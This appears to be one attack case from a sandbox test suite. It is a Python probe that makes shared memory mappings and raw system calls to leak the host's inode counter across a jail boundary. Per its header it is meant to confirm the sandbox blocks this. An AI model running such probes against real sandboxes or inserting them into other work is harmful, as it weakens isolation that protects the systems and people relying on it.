# /// attack
# tries = "Advance the machine's counter of inode numbers by shared mappings, and read it from the inode of a later socket."
# verdicts = ["accepted"]
# repeated = true
# ///
import mmap

SHARED, ANONYMOUS, VALIDATE = 1, 32, 3

def attack(root, worker):
    zero, file = os.open("/dev/zero", os.O_RDWR), os.open("/jail/inside/loader.py", os.O_RDONLY)
    for kind in (SHARED, VALIDATE):
        attempt("a shared anonymous mapping", mmap.mmap, -1, 4096, flags=kind | ANONYMOUS)
        attempt("a shared mapping of /dev/zero", mmap.mmap, zero, 4096, flags=kind)
        attempt("a shared mapping of a file", mmap.mmap, file, 4096, flags=kind, prot=mmap.PROT_READ)
    for number in {"x86_64": (319, 22, 293, 53, 29, 290, 291, 253)}.get(os.uname().machine, (279, 59, 199)):
        system_call(f"an inode by call {number}", number, b"x", 0, 0, 0)
    mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | ANONYMOUS).close()
    return LOOT
